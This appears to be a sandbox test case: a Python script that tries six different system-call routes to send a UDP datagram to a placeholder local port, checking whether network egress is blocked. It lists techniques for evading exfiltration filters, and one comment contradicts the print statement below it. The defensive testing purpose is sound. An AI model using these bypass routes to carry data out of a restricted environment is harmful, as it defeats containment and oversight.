# attack: one UDP datagram is enough to carry a secret out; it needs no connection and there are six calls that send one
# expect: sandbox
# validator: refused
import _socket
import ctypes
import os
import struct

TARGET = ("127.0.0.1", @UDP_PORT@)
libc = ctypes.CDLL(None, use_errno=True)


def sendto():
    _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"sendto", TARGET)


def connected_write():
    made = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    made.connect(TARGET)
    os.write(made.fileno(), b"write")


def sendmsg():
    _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendmsg([b"send", b"msg"], [], 0, TARGET)


def mapped_into_ipv6():
    _socket.socket(_socket.AF_INET6, _socket.SOCK_DGRAM).sendto(b"mapped", ("::ffff:127.0.0.1", @UDP_PORT@))


def lightweight_udp():
    _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM, 136).sendto(b"UDP-Lite", TARGET)


def libc_alone():
    made = libc.socket(2, 2, 0)
    address = struct.pack("=H", 2) + struct.pack(">H", @UDP_PORT@) + bytes((127, 0, 0, 1)) + bytes(8)
    if libc.sendto(made, b"libc", 4, 0, address, len(address)) != 4:
        raise OSError(ctypes.get_errno(), "sendto")


for attempt in (sendto, connected_write, sendmsg, mapped_into_ipv6, lightweight_udp, libc_alone):
    try:
        # Nothing is printed for success: the arena sees whether a datagram arrived.
        attempt()
        print(attempt.__name__, "was sent")
    except Exception as error:
        print(attempt.__name__, type(error).__name__, error)
